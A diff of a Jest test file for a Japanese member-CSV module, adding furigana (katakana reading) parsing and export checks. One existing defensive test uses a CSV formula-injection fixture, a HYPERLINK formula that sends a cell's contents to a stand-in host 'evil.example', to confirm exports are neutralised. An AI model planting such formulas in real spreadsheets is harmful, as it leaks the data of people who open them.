@@ -47,6 +47,14 @@ describe('member CSV', () => {
     expect(checked[3].errors).toEqual([expect.stringContaining('重複'), '入社日はYYYY-MM-DD形式の日付で入力してください']);
   });
 
+  it('reads the フリガナ column as kaonavi writes it, folding hiragana and half-width kana to katakana, and refuses other scripts', () => {
+    const rows = parseMemberCsv('姓,名,フリガナ\n佐藤,花子,さとう　はなこ\n鈴木,一郎,ｽｽﾞｷ ｲﾁﾛｰ\n田中,次郎,\n山田,太郎,山田 タロウ\n');
+    const checked = checkMemberRows(rows, { positions: [], departments: [], registeredEmails: [] });
+    expect(checked.map((row) => row.furigana)).toEqual(['サトウ ハナコ', 'スズキ イチロー', null, '山田 タロウ']);
+    expect(checked.map((row) => row.errors)).toEqual([[], [], [], ['フリガナはカタカナで入力してください']]);
+    expect(parseMemberCsv('lastName,firstName,furigana\n佐藤,花子,サトウ ハナコ\n')[0].record.furigana).toBe('サトウ ハナコ');
+  });
+
   it('refuses a row with a NUL in any cell, naming the column, and keeps the other rows', () => {
     const rows = parseMemberCsv('姓,名,備考\n佐藤,花子,メモ\n田\u0000中,次郎,a\u0000b\n');
     const [good, bad] = checkMemberRows(rows, { positions: [], departments: [], registeredEmails: [] });
@@ -56,16 +64,17 @@ describe('member CSV', () => {
 
   it('exports UTF-8 with BOM and the Japanese header', () => {
     const csv = memberCsv([
-      { lastName: '佐藤', firstName: '花子', email: null, position: '課長', department: null, phoneNumber: null, hireDate: '2026-04-01', notes: 'a,b' },
+      { lastName: '佐藤', firstName: '花子', furigana: 'サトウ ハナコ', email: null, position: '課長', department: null, phoneNumber: null, hireDate: '2026-04-01', notes: 'a,b' },
     ]);
-    expect(csv.startsWith('\uFEFF姓,名,メールアドレス,役職,部署,電話番号,入社日,備考\r\n')).toBe(true);
-    expect(csv).toContain('佐藤,花子,,課長,,,2026-04-01,"a,b"');
+    expect(csv.startsWith('\uFEFF姓,名,フリガナ,メールアドレス,役職,部署,電話番号,入社日,備考\r\n')).toBe(true);
+    expect(csv).toContain('佐藤,花子,サトウ ハナコ,,課長,,,2026-04-01,"a,b"');
   });
 
   it('exports no cell that a spreadsheet would run as a formula, and imports its own export back unchanged', () => {
     const member = {
       lastName: '=HYPERLINK("https://evil.example/?d="&A2,"詳細")',
       firstName: '@SUM(1+1)',
+      furigana: 'サトウ ハナコ',
       email: 'x@example.com',
       position: null,
       department: '-営業',
